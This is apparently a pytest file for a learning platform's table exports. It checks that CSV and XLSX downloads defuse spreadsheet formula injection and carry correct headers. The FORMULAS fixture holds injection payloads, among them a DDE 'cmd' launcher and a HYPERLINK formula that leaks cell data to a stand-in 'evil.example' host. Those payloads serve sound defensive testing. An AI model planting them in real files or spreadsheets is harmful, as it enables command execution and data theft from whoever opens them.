"""Tables to take away: every table in every format, safe to open, for those who may see it only.

Source: security C-35; style, "Where a new thing goes".
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import openpyxl
import pytest
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st

from lms import db
from lms.accounts.models import Account
from lms.exports.formats import csv as csv_format
from lms.exports.formats import xlsx as xlsx_format
from lms.exports.tables import FORMATS, Table
from lms.privacy import vault
from tests.page import Page
from tests.world import World

Browser = Callable[[str], Page]
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "﹢1",
    "－1",
    "＠x",
    "\0=1",
    '=HYPERLINK("http://evil.example?"&A1)',
)


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_of_a_csv_runs_in_a_spreadsheet(cell: str) -> None:
    written = csv_format.write(Table("t", ("name", cell), [(cell, 1)]))
    for shown in (rows(written)[0][1], rows(written)[1][0]):
        assert shown.startswith("'")
    assert written.count(b'"') % 2 == 0


def test_every_cell_is_quoted_and_numbers_stay_numbers() -> None:
    written = csv_format.write(Table("t", ("a", "b"), [("x,y", -5), (None, 2.5), ('"', 0)]))
    assert written.decode("utf-8-sig").split("\r\n") == [
        '"a","b"',
        '"x,y","-5"',
        '"","2.5"',
        '"""","0"',
        "",
    ]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=4))
def test_whatever_text_is_written_can_be_read_again(cells: list[str]) -> None:
    """A reader who takes the guard off has what was written, null bytes aside."""
    written = rows(csv_format.write(Table("t", ["c"] * len(cells), [cells])))[1]
    for cell, shown in zip(cells, written, strict=True):
        assert shown.removeprefix("'") == cell.replace("\0", "").removeprefix("'")


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(cell: str) -> None:
    written = xlsx_format.write(Table("t", ("name",), [(cell,)]))
    sheet = openpyxl.load_workbook(io.BytesIO(written)).worksheets[0]
    assert sheet["A2"].data_type == "s"


def test_a_workbook_keeps_numbers_as_numbers_and_letters_of_all_kinds() -> None:
    written = xlsx_format.write(Table("t", ("a", "b"), [("Әлия \x01\x0b", 12), (None, None)]))
    sheet = openpyxl.load_workbook(io.BytesIO(written)).worksheets[0]
    assert [cell.value for cell in sheet[2]] == ["Әлия ", 12]


# --- through the pages ---------------------------------------------------------------------------

TABLES = (
    ("tamara", "/cohorts/", "groups"),
    ("tamara", "/cohorts/{North one}", "people"),
    ("tamara", "/cohorts/{North one}/rules", "rules"),
    ("kairat", "/elections/", "elections"),
    ("asel", "/admin/trail", "trail"),
)


@pytest.mark.parametrize("file_format", FORMATS)
@pytest.mark.parametrize(("login", "address", "name"), TABLES)
def test_every_table_can_be_taken_away_under_a_quiet_name(
    login: str, address: str, name: str, file_format: str, world: World, signed_in_as: Browser
) -> None:
    path = address.replace("{North one}", str(world.ids["North one"]))
    answer = signed_in_as(login).client.get(f"{path}?format={file_format}")
    assert answer.status_code == 200
    told = answer.headers["Content-Disposition"]
    assert told == f'attachment; filename="{name}.{file_format}"'
    assert answer.headers["Cache-Control"] == "no-store"
    body = answer.get_data()
    if file_format == "csv":
        assert len(rows(body)[0]) >= 3
    else:
        assert openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].max_column >= 3


@pytest.mark.parametrize("asked", ["exe", "CSV", "../csv", "pdf", ""])
def test_a_format_that_does_not_exist_gives_the_page(asked: str, signed_in_as: Browser) -> None:
    page = signed_in_as("tamara").get(f"/cohorts/?format={asked}")
    assert page.answer.mimetype == "text/html"


def test_a_table_of_people_holds_what_the_page_shows_and_no_more(
    world: World, signed_in_as: Browser
) -> None:
    client = signed_in_as("tamara").client
    body = client.get(f"/cohorts/{world.ids['North one']}?format=csv").get_data()
    found = rows(body)
    assert found[0] == [
        "id", "name", "login", "language", "post", "lessons", "quizzes", "scenarios",
        "missing", "status",
    ]  # fmt: skip
    assert {line[2] for line in found[1:]} == {"aida", "bota"}


def test_a_name_that_is_a_formula_runs_in_no_coordinators_spreadsheet(
    app: Flask, world: World, signed_in_as: Browser
) -> None:
    with app.app_context(), db.transaction() as session:
        aida = session.get_one(Account, world.ids["aida"])
        formula = "=HYPERLINK(1)"
        aida.name_sealed = vault().seal(
            aida.id, aida.person_key or b"", "accounts.name_sealed", formula
        )
    page = signed_in_as("tamara").get(f"/cohorts/{world.ids['North one']}")
    assert "=HYPERLINK(1)" in page.text
    for path in ("", "/rules"):
        body = page.client.get(f"/cohorts/{world.ids['North one']}{path}?format=csv").get_data()
        assert b'"\'=HYPERLINK(1)"' in body
